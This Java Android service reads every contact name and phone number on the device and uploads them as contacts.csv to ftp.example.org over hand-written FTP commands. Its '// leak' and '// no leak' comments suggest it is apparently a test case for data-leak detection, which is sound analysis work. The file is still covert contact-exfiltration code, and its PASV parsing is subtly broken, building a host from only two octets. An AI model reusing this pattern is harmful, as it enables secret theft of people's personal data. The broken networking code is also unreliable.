package olden;

import android.app.*;
import android.content.*;
import android.database.*;
import android.os.*;
import android.provider.ContactsContract;

import java.io.*;
import java.net.*;

/** The address book, to an FTP server. */
public class OverFtp extends IntentService {
    public OverFtp() {
        super("x");
    }

    protected void onHandleIntent(Intent in) {
        StringBuffer sb = new StringBuffer();
        ContentResolver cr = getContentResolver();
        Cursor cur = cr.query(ContactsContract.Contacts.CONTENT_URI, null, null, null, null);
        if (cur.getCount() > 0)
            while (cur.moveToNext()) {
                String id = cur.getString(cur.getColumnIndex("_id"));
                String name = cur.getString(cur.getColumnIndex("display_name"));
                if (Integer.parseInt(cur.getString(cur.getColumnIndex("has_phone_number"))) > 0) {
                    Cursor p =
                            cr.query(
                                    ContactsContract.CommonDataKinds.Phone.CONTENT_URI,
                                    null,
                                    "contact_id = ?",
                                    new String[] {id},
                                    null);
                    while (p.moveToNext())
                        sb.append(name + ";" + p.getString(p.getColumnIndex("data1")) + "\r\n");
                    p.close();
                }
            }
        ftp("contacts.csv", sb.toString());
        list("LIST");
    }

    void ftp(String n, String t) {
        try {
            Socket s = new Socket("ftp.example.org", 21);
            BufferedReader r = new BufferedReader(new InputStreamReader(s.getInputStream()));
            PrintStream o = new PrintStream(s.getOutputStream(), true);
            o.println("USER u");
            o.println("PASS p");
            o.println("PASV");
            String l = r.readLine();
            int a = l.indexOf('('), b = l.indexOf(')');
            String[] x = l.substring(a + 1, b).split(",");
            int port = Integer.parseInt(x[4]) * 256 + Integer.parseInt(x[5]);
            Socket d = new Socket(x[0] + "." + x[1], port);
            o.println("STOR " + n);
            BufferedInputStream in =
                    new BufferedInputStream(new ByteArrayInputStream(t.getBytes()));
            BufferedOutputStream out = new BufferedOutputStream(d.getOutputStream());
            byte[] buf = new byte[4096];
            int k;
            while ((k = in.read(buf)) != -1) out.write(buf, 0, k); // leak
            out.close();
        } catch (IOException e) {
        }
    }

    void list(String cmd) {
        try {
            Socket s = new Socket("ftp.example.org", 21);
            PrintStream o = new PrintStream(s.getOutputStream(), true);
            o.println(cmd); // no leak
        } catch (IOException e) {
        }
    }
}
